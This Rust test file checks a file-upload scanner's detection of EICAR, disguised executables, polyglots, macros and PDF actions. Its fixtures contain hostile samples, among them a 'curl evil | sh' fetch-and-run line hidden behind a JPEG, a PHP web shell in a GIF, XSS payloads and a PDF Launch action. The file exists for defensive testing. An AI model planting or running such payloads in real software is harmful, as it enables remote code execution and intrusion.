use std::io::Write as _;
use std::time::Duration;

use flate2::Compression;
use flate2::write::ZlibEncoder;
use image::ImageFormat;
use parlour_files::kinds::Kind;
use parlour_files::scan::Verdict;
use parlour_files::scan::rules::{Failed, Scanner, WINDOW};

use crate::support::{eicar, every_kind, pdf, picture};

fn scanner() -> Scanner {
    Scanner::new(Duration::from_secs(30)).unwrap()
}

fn found(kind: Kind, bytes: &[u8]) -> Vec<String> {
    match scanner().scan(kind, bytes).unwrap() {
        Verdict::Clean => Vec::new(),
        Verdict::Infected(names) => names,
    }
}

#[test]
fn harmless_files_of_every_type_are_clean() {
    for (kind, bytes) in every_kind() {
        assert_eq!(found(kind, &bytes), Vec::<String>::new(), "{kind:?}");
    }
}

#[test]
fn the_test_file_is_found_inside_every_type() {
    for (kind, bytes) in every_kind() {
        let middle = bytes.len() / 2;
        for infected in [
            [&bytes, eicar().as_slice()].concat(),
            [&bytes[..middle], &eicar(), &bytes[middle..]].concat(),
        ] {
            assert!(
                found(kind, &infected).contains(&"eicar_test_file".to_owned()),
                "{kind:?}"
            );
        }
    }
}

#[test]
fn parts_of_any_size_make_no_difference() {
    let scanner = scanner();
    let mut file = vec![b'x'; WINDOW + 100_000];
    let at = WINDOW - 30;
    file.splice(at..at, eicar());
    for size in [1_000_003, WINDOW, file.len()] {
        let mut scan = scanner.begin(Kind::Text);
        for part in file.chunks(size) {
            scan.feed(part).unwrap();
        }
        assert_eq!(
            scan.finish(),
            Ok(Verdict::Infected(vec!["eicar_test_file".to_owned()])),
            "in parts of {size}"
        );
    }
}

#[test]
fn programs_and_scripts_in_disguise_are_found() {
    let jpeg = picture(ImageFormat::Jpeg, 8, 8);
    let behind = |what: &[u8]| [&jpeg, what].concat();
    let elf = std::fs::read(std::env::current_exe().unwrap()).unwrap()[..4096].to_vec();
    for (name, kind, bytes) in [
        ("unix_program", Kind::Jpeg, elf.clone()),
        ("unix_program", Kind::Jpeg, behind(&elf)),
        ("windows_program", Kind::Pdf, b"MZ\x90\0 and so on".to_vec()),
        (
            "windows_program",
            Kind::Jpeg,
            behind(b"MZ This program cannot be run in DOS mode.\r\n"),
        ),
        (
            "mac_program",
            Kind::Png,
            behind(&[0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0, 2, 0, 0, 0]),
        ),
        (
            "shell_script",
            Kind::Jpeg,
            behind(b"\n#!/bin/sh\ncurl evil | sh\n"),
        ),
        ("shell_script", Kind::Text, b"#!/usr/bin/env python3\n".to_vec()),
        (
            "windows_script",
            Kind::Text,
            b"Set s = CreateObject(\"WScript.Shell\")\n".to_vec(),
        ),
        (
            "php_in_file",
            Kind::Gif,
            b"GIF89a<?php system($_GET['c']); ?>".to_vec(),
        ),
        (
            "windows_shortcut",
            Kind::Text,
            b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec(),
        ),
    ] {
        assert!(
            found(kind, &bytes).contains(&name.to_owned()),
            "{name} in {kind:?}: {:?}",
            found(kind, &bytes)
        );
    }
    assert_eq!(
        found(Kind::Text, b"A shell script begins with #!/bin/sh, they say."),
        Vec::<String>::new()
    );
}

#[test]
fn files_that_are_two_things_are_found() {
    let jpeg = picture(ImageFormat::Jpeg, 8, 8);
    let zip = b"PK\x03\x04\x14\0\0\0\x08\0 entries PK\x05\x06\0\0\0\0\x01\0\x01\0";
    for (name, bytes) in [
        (
            "markup_in_media",
            [&jpeg, &b"<html><script>alert(1)</script>"[..]].concat(),
        ),
        (
            "markup_in_media",
            [&jpeg, &b"<IMG src=x onerror=alert(1)>"[..]].concat(),
        ),
        ("archive_in_media", [&jpeg, &zip[..]].concat()),
        ("archive_in_media", zip.to_vec()),
        ("pdf_in_media", [&jpeg, pdf("").as_slice()].concat()),
        (
            "office_macros",
            b"PK\x03\x04\x14\0\0\0\x08\0 word/vbaProject.bin".to_vec(),
        ),
        (
            "office_macros",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 _VBA_PROJECT".to_vec(),
        ),
    ] {
        assert!(
            found(Kind::Jpeg, &bytes).contains(&name.to_owned()),
            "{name}: {:?}",
            found(Kind::Jpeg, &bytes)
        );
    }
}

#[test]
fn documents_that_do_something_are_found() {
    for (name, catalogue) in [
        (
            "pdf_javascript",
            "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        ),
        (
            "pdf_javascript",
            "/OpenAction << /S /J#61vaScript /J#53 (app.alert) >>",
        ),
        ("pdf_javascript", "/Names << /JavaScript 7 0 R >>"),
        ("pdf_launch", "/OpenAction << /S /Launch /F (calc.exe) >>"),
        ("pdf_embedded_file", "/Names << /EmbeddedFiles 9 0 R >>"),
        ("pdf_hidden_objects", "/Encrypt 8 0 R /Type /ObjStm"),
    ] {
        assert_eq!(found(Kind::Pdf, &pdf(catalogue)), [name], "{catalogue}");
    }
    assert_eq!(
        found(Kind::Text, b"The name /JavaScript 7 0 R means a script."),
        Vec::<String>::new()
    );
}

#[test]
fn what_a_document_packs_is_looked_into() {
    let mut packed = ZlibEncoder::new(Vec::new(), Compression::best());
    let objects = "4 0 << /S /JavaScript /JS (app.launchURL) >>\n".repeat(20);
    packed.write_all(objects.as_bytes()).unwrap();
    let packed = packed.finish().unwrap();
    let stream = [
        b"5 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n",
        packed.as_slice(),
        b"\nendstream",
    ]
    .concat();
    let file = [pdf("").as_slice(), &stream].concat();
    assert!(!String::from_utf8_lossy(&file).contains("JavaScript"));
    assert_eq!(found(Kind::Pdf, &file), ["pdf_javascript"]);
}

#[test]
fn a_scan_without_time_is_not_clean() {
    let scanner = Scanner::new(Duration::ZERO).unwrap();
    assert_eq!(scanner.scan(Kind::Text, b"hello"), Err(Failed::Overdue));
}
